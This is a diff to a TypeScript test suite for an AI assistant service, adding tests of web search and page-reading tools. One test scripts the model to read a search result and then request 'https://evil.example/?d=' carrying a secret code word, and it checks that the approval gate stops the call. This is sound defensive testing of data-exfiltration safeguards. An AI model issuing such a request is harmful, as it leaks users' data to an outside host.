@@ -45,7 +45,9 @@ describe("tool of a server", () => {
   let serverId: string;
 
   beforeAll(async () => {
-    [service, mcp] = await Promise.all([startScriptedService(), startMcpServer({ authorization: SECRET })]);
+    mcp = await startMcpServer({ authorization: SECRET });
+    const env = { WEB_SEARCH_PROVIDER: "searxng", WEB_SEARCH_BASE_URL: new URL(mcp.url).origin };
+    service = await startScriptedService({ env });
     ({ upstream } = service);
     mcp.tools = [toolDefinition("read", { title: "Read a file" }), toolDefinition("write")];
   });
@@ -397,6 +399,74 @@ describe("tool of a server", () => {
       },
       { timeout: 10_000 },
     );
+  });
+
+  describe("of the web", () => {
+    const found = {
+      url: "http://127.0.0.1:1/tides",
+      title: "Tides",
+      content: `High tide is at nine. The code is ${CODE_WORD}.`,
+    };
+    const tools = ["web_search", "read_page"];
+    const search = ["web_search", '{"query":"tides"}'] as const;
+    const readCallOf = (url: string) => ["read_page", JSON.stringify({ url })] as const;
+    const namesOf = (body: { tools: { function: { name: string } }[] }) => body.tools.map((tool) => tool.function.name);
+
+    beforeEach(() => {
+      mcp.intercept = ({ method, path }, response) => {
+        if (method !== "GET" || path !== "/search?q=tides&format=json") return false;
+        return !!response
+          .writeHead(200, { "content-type": "application/json" })
+          .end(JSON.stringify({ results: [found] }));
+      };
+    });
+
+    async function converse(fields: object) {
+      const { body: persona } = await client.post("/v1/personas", { name: "Scout", ...fields });
+      return (await client.post("/v1/conversations", { title: "Web", persona_id: persona.id })).body.id;
+    }
+
+    it("cites a result of the web like a passage, with its title and address", async () => {
+      setScripts(streamToolCalls(search), streamText(["High tide is at nine [1]."]));
+      const frames = await chat("THINKING", await converse({ tools }));
+      expect(namesOf(prompts()[0])).toEqual(tools);
+      expect(toolResults()[0]).toMatch(/^<tool_result id="\w+">\n\{"passages":\[\{"number":1,"title":"Tides"/);
+      const [{ sources }] = titlesOf(frames, "search_transparency").slice(-1);
+      const { content } = titlesOf(frames, "assistant_message").at(-1);
+      const citation = content.find(({ type }: { type: string }) => type === "citation");
+      const web = { source_type: "web", title: "Tides", uri: found.url, collection_id: null };
+      expect([sources[0], citation]).toEqual([
+        expect.objectContaining(web),
+        expect.objectContaining({ ...web, index: 1, quote: "High tide is at nine." }),
+      ]);
+      expect(citation).not.toHaveProperty("document_id");
+    });
+
+    it("reads a page that a search returned without consent, and asks before any other address", async () => {
+      setScripts(
+        streamToolCalls(search),
+        streamToolCalls(readCallOf(found.url)),
+        streamToolCalls(readCallOf(`https://evil.example/?d=${CODE_WORD}`)),
+      );
+      const { approval_id, message, finish } = await chatUntilPaused(await converse({ tools }), "RESEARCH");
+      expect(message).toContain("text that others wrote");
+      expect(toolResults()[1]).toBe("The address is not on the public internet.");
+      expect((await client.post(`/v1/approvals/${approval_id}/cancel`, {})).status).toBe(200);
+      expect(streamedText(await finish())).toContain("Enough.");
+    });
+
+    it("is offered only to personas that name its tools, also to programs, which cannot be asked", async () => {
+      setScripts();
+      await chat("THINKING", await converse({}));
+      expect(prompts()).toEqual([]);
+      await chat("THOUGHT_PARTNER", await converse({}));
+      expect(namesOf(prompts()[0])).toEqual(expect.not.arrayContaining(tools));
+      const ask = await publish({ tier: "RESEARCH", api_tools: true, tools, tool_servers: [] });
+      setScripts(streamToolCalls(search), streamToolCalls(readCallOf("https://evil.example/")));
+      await ask({});
+      expect(namesOf(prompts()[0])).toEqual(tools);
+      expect(toolResults()).toEqual([expect.stringContaining("Tides"), expect.stringContaining("not executed")]);
+    });
   });
 
   it("is confirmed by the user who asked in the mode confirm, and then called once", async () => {
